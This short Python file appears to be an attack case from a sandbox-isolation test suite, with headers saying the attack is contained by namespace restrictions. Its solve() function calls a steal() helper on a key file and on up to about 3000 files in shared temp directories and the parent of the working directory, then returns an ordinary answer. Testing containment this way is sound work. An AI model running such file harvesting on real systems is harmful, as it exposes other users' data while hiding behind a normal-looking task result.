# attack: read what others left in /tmp, /var/tmp, /dev/shm and /run
# contained-at: namespaces restricted
# expect: seed-score
# bites-at: none
import os

from kit import *


def solve(instance):
    steal(f"{host.TMP}/key.txt")
    for base in ("/tmp", "/var/tmp", "/dev/shm", "/run", os.path.dirname(os.getcwd())):
        seen = 0
        for folder, _, files in os.walk(base):
            for name in files:
                seen += 1
                if not folder.startswith(os.getcwd()) and seen < 3000:
                    steal(os.path.join(folder, name))
            if seen > 3000:
                break
    return answer(instance)
